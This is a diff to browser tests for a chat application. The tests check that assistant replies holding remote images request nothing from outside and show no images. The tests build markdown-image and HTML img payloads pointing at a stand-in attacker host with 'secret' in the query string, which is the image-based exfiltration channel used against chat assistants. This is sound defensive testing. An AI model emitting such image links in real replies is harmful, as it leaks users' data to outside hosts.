@@ -31,7 +31,7 @@ from tests.browser_harness import (
     wait_chat_reply_saved,
     wait_settled,
 )
-from tests.chat_browser_harness import chat_records
+from tests.chat_browser_harness import chat_records, conversation_button, open_chat_settings
 from tests.reply_corpus import corpus
 from workbench.chat.conversations import Conversations
 
@@ -89,8 +89,11 @@ def test_a_streamed_reply_with_a_remote_image_requests_nothing(
     pixel = f"![]({attacker.base}/s?q=secret)"
     html = f"<img src={attacker.base}/h>"
     sign_in(page, app, MEMBER)
+    open_chat_settings(page)
     page.get_by_role("textbox", name="System prompt (optional)").fill(pixel + html)
     page.get_by_role("textbox", name="System prompt (optional)").press("Tab")
+    wait_settled(page)
+    page.keyboard.press("Escape")  # close the settings control
     wait_settled(page)
     replies_before = assistant_messages(page).count()
     text = f"Show me the chart {uuid.uuid4().hex[:6]}"
@@ -104,7 +107,7 @@ def test_a_streamed_reply_with_a_remote_image_requests_nothing(
     assert images_in_replies(page) == 0
 
     # Saved: opened again from the list.
-    page.get_by_test_id("stMainBlockContainer").get_by_role("button", name=text).click()
+    conversation_button(page, text).click()
     wait_settled(page)
     assert pixel in assistant_messages(page).last.inner_text()
     assert images_in_replies(page) == 0
@@ -119,7 +122,7 @@ def test_replies_built_to_hide_images_request_nothing(
     assert all("![" in reply or "<img" in reply for reply in replies)
     requested = watch_requests_to(page, attacker.base)
     sign_in(page, app, MEMBER)
-    page.get_by_test_id("stMainBlockContainer").get_by_role("button", name=title).click()
+    conversation_button(page, title).click()
     assistant_messages(page).nth(len(replies) - 1).wait_for()
     wait_settled(page)
     assert assistant_messages(page).count() == len(replies)
